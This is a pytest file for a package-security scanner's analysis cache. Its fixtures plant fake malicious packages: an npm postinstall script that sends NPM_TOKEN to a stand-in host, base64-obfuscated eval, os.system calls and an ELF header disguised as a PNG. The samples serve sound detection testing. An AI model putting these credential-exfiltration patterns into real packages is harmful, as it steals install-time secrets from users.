"""What installed packages gave is remembered by content and ruleset, and changes no byte of a result."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest

from assay.scanner.code import reading as python
from assay.scanner.code.facts import Facts
from assay.scanner.code.gathered import Reading
from assay.scanner.code.npm.reading import Sources
from assay.scanner.code.package import PackageCode, Unread
from assay.scanner.code.stored import decode, encode
from assay.scanner.inputs import remembered, remembering
from assay.scanner.inputs.code_folders import Memory
from assay.scanner.inputs.remembered import KEPT, Store, is_usable, key_of
from assay.scanner.inputs.target import ReadOptions, read_targets
from assay.scanner.inputs.tree import Limits
from assay.scanner.knowledge import IndicatorKind, Observable
from assay.scanner.models import Gap
from tests.command import assay

if TYPE_CHECKING:
    from pathlib import Path

_SENDS = "const https = require('https');\nhttps.get('https://x.example.invalid/?u=' + process.env.NPM_TOKEN);\n"


def project(folder: Path) -> Path:
    """A project with two installed packages of each ecosystem."""
    files = {
        "package.json": '{"name":"app","version":"1.0.0"}',
        "node_modules/bad/package.json": '{"name":"bad","version":"1.0.0","scripts":{"postinstall":"node x.js"}}',
        "node_modules/bad/x.js": _SENDS,
        "node_modules/good/package.json": '{"name":"good","version":"1.0.0"}',
        "node_modules/good/index.js": "module.exports = 1;\n",
        "venv/lib/python3.12/site-packages/evil/__init__.py": "import os\nos.system('id')\n",
        "venv/lib/python3.12/site-packages/evil-1.0.dist-info/METADATA": "Name: evil\nVersion: 1.0\n",
        "venv/lib/python3.12/site-packages/evil-1.0.dist-info/RECORD": "evil/__init__.py,,\n",
    }
    for path, text in files.items():
        place = folder / "app" / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
    return folder / "app"


def scanned(target: Path, cache: Path, *options: str) -> str:
    run = assay("scan", str(target), "-f", "json", *options, env={"XDG_CACHE_HOME": str(cache)}, cwd=target.parent)
    assert run.returncode in (0, 3), run.stderr
    return run.stdout


def entries(cache: Path) -> list[Path]:
    return sorted(path for path in cache.rglob("*") if path.is_file())


def test_it_changes_no_byte(tmp_path: Path) -> None:
    target, cache = project(tmp_path), tmp_path / "cache"
    without = scanned(target, cache, "--no-cache")
    assert entries(cache) == []
    first = scanned(target, cache)
    kept = entries(cache)
    assert len(kept) == 3
    assert first == scanned(target, cache) == scanned(target, cache, "-j", "1") == without
    assert entries(cache) == kept
    assert '"rule":"POST-001"' in first


@pytest.mark.parametrize("observables", [(), (Observable(IndicatorKind.DOMAIN, "x.example.invalid"),)])
def test_who_hashes_what_is_remembered_decides_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, observables: tuple[Observable, ...]
) -> None:
    target, memory = project(tmp_path), Memory(str(tmp_path / "cache"), "sha256:ab")
    (target / "node_modules/good/package.json").write_text("[]")
    (target / "own.js").write_text(_SENDS)
    (target / "setup.py").write_text("import os\nos.system('id')\n")
    (target / "logo.png").write_bytes(b"\x7fELF")
    monkeypatch.setattr(remembering, "FEWEST_SHARED", 1)
    options = ReadOptions(
        code="assay.scanner.code.reading", npm="assay.scanner.code.npm.reading", observables=observables
    )
    expected = read_targets([str(target)], options)
    assert expected.gaps
    assert bool(expected.sightings) == bool(observables)
    for jobs in (1, 2, 1, 3):
        assert read_targets([str(target)], options._replace(remember=memory, jobs=jobs)) == expected
    assert len(entries(tmp_path / "cache")) == 5


def test_a_package_of_which_a_file_cannot_be_read_is_not_kept(tmp_path: Path) -> None:
    target, memory = project(tmp_path), Memory(str(tmp_path / "cache"), "sha256:ab")
    (target / "node_modules/bad/x.js").write_bytes(b"x" * 2_000)
    options = ReadOptions(npm="assay.scanner.code.npm.reading", limits=Limits(file_bytes=1_000))
    expected = read_targets([str(target)], options)
    assert "too-large" in {gap.reason for gap in expected.gaps}
    for _ in range(2):
        assert read_targets([str(target)], options._replace(remember=memory)) == expected
    assert len(entries(tmp_path / "cache")) == 1


def test_nothing_is_hashed_when_the_time_is_up(tmp_path: Path) -> None:
    target, memory = project(tmp_path), Memory(str(tmp_path / "cache"), "sha256:ab")
    options = ReadOptions(npm="assay.scanner.code.npm.reading", remember=memory)
    read_targets([str(target)], options)
    stopped = read_targets([str(target)], options._replace(expired=lambda: True))
    assert Gap("", "timeout", "the time was up before every file was read") in stopped.gaps
    assert not {file.path for file in stopped.files} >= {"node_modules/bad/x.js", "node_modules/good/index.js"}


def test_nobody_who_reads_code_is_loaded_for_what_is_remembered(tmp_path: Path) -> None:
    target, cache = project(tmp_path), tmp_path / "cache"
    (target / "package.json").write_text('{"name":"app","version":"1.0.0","scripts":{"test":"node x.js"}}')
    loaded = []
    for _ in range(2):
        env = {"XDG_CACHE_HOME": str(cache), "PYTHONPROFILEIMPORTTIME": "1"}
        run = assay("scan", str(target), "-f", "json", env=env, cwd=tmp_path)
        assert run.returncode in (0, 3)
        loaded.append({line.rpartition("|")[2].strip() for line in run.stderr.splitlines()})
    readers = {"tree_sitter", "tree_sitter_javascript", "tree_sitter_python", "yara_x"}
    assert readers <= loaded[0]
    assert readers.isdisjoint(loaded[1])


def test_another_place_is_the_same_package(tmp_path: Path) -> None:
    target, cache = project(tmp_path), tmp_path / "cache"
    first = scanned(target, cache)
    kept = entries(cache)
    target.rename(tmp_path / "elsewhere")
    assert scanned(tmp_path / "elsewhere", cache) == first
    assert entries(cache) == kept


def test_a_changed_byte_is_another_package(tmp_path: Path) -> None:
    target, cache = project(tmp_path), tmp_path / "cache"
    first = scanned(target, cache)
    file = target / "node_modules/bad/x.js"
    before = file.stat()
    file.write_text(_SENDS.replace("NPM_TOKEN", "NPM_TOKEM"))
    os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns))
    second = scanned(target, cache)
    assert len(entries(cache)) == 4
    assert first != second == scanned(target, cache, "--no-cache")


@pytest.mark.parametrize("content", [b"", b"\0" * 40, b"{}", None])
def test_a_broken_entry_is_none(tmp_path: Path, content: bytes | None) -> None:
    target, cache = project(tmp_path), tmp_path / "cache"
    first = scanned(target, cache)
    for path in entries(cache):
        path.write_bytes(path.read_bytes()[:-3] if content is None else content)
    assert scanned(target, cache) == first


def test_an_entry_under_another_key_is_none(tmp_path: Path) -> None:
    target, cache = project(tmp_path), tmp_path / "cache"
    first = scanned(target, cache)
    contents = [path.read_bytes() for path in entries(cache)]
    for path, content in zip(entries(cache), contents[1:] + contents[:1], strict=True):
        path.write_bytes(content)
    assert scanned(target, cache) == first


def test_a_folder_that_others_may_write_to_is_not_used(tmp_path: Path) -> None:
    folder = tmp_path / "open"
    folder.mkdir()
    folder.chmod(0o777)
    assert not is_usable(str(folder))
    store = Store(Memory(str(folder), "sha256:ab"))
    store.put("abcd", b"x")
    assert store.get("abcd") is None
    assert list(folder.iterdir()) == []


def test_rulesets_long_unused_are_let_go(tmp_path: Path) -> None:
    folder = tmp_path / "code"
    folder.mkdir(mode=0o700)
    for number in range(KEPT + 2):
        (folder / f"{number:02}").mkdir()
        os.utime(folder / f"{number:02}", (number, number))
    assert is_usable(str(folder))
    assert sorted(path.name for path in folder.iterdir()) == [f"{number:02}" for number in range(2, KEPT + 2)]


def test_entries_without_number_are_not_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(remembered, "MOST_BESIDE", 3)
    store = Store(Memory(str(tmp_path / "code"), "sha256:ab"))
    for number in range(6):
        store.put(f"aa{number}", b"x")
        os.utime(tmp_path / "code" / "ab" / "aa" / str(number), (number, number))
    store.put("bb0", b"x")
    assert [key for key in ("aa0", "aa1", "aa2", "aa3", "aa4", "aa5", "bb0") if store.get(key)] == [
        *("aa3", "aa4", "aa5", "bb0")
    ]


def test_a_key_is_of_all_that_decides() -> None:
    base = key_of(("installed", "npm"), [("a", "1", 1), ("b", "2", 2)])
    assert base == key_of(("installed", "npm"), [("b", "2", 2), ("a", "1", 1)])
    others = {
        key_of(("installed", "npm", True), [("a", "1", 1), ("b", "2", 2)]),
        key_of(("installed", "pypi"), [("a", "1", 1), ("b", "2", 2)]),
        key_of(("installed", "npm"), [("a", "1", 1)]),
        key_of(("installed", "npm"), [("a", "1", 1), ("c", "2", 2)]),
        key_of(("installed", "npm"), [("a", "1", 1), ("b", "3", 2)]),
    }
    assert len(others | {base}) == 6


def test_a_reading_comes_back_as_it_was() -> None:
    sources = Sources()
    files = {
        "package.json": b'{"name":"d","scripts":{"postinstall":"node x.js"}}',
        "x.js": b"eval(Buffer.from('cmVxdWlyZSgiZnMiKQ==','base64').toString());\n" + _SENDS.encode(),
    }
    for path, data in files.items():
        sources.take(path, data)
    reading = sources.finish("tarball", sorted(files))
    assert reading.code is not None
    assert reading.code.facts.layers
    assert decode(encode(reading, frozenset({"x.js"}))) == (reading, frozenset({"x.js"}))
    odd = Reading(PackageCode((), Facts(), ()), (Unread("\ud800", "r", "d"),))
    assert decode(encode(odd, frozenset())) == (odd, frozenset())


@pytest.mark.parametrize("shift", [62, 63, 64, 30_000])
def test_a_reading_with_an_integer_of_any_length_comes_back(shift: int) -> None:
    sources = python.Sources()
    sources.take("m.py", f"import os\nos.system(1 << {shift})\nos.system(-(1 << {shift}))\n".encode())
    reading = sources.finish("installed", ["m.py"])
    assert reading.code is not None
    assert [call.arguments[0].value.value for call in reading.code.facts.calls] == [1 << shift, -(1 << shift)]
    assert decode(encode(reading, frozenset())) == (reading, frozenset())


@pytest.mark.parametrize(
    "data",
    [b"", b"[]", b"null", b"[[0],[]]", b"[[99],[]]", b"[[true],[]]", b'[[-2,"*"],[]]', b"[" * 9000, b"[[0,1,2,3],[]]"],
)
def test_what_is_no_reading_is_nothing(data: bytes) -> None:
    assert decode(data) is None
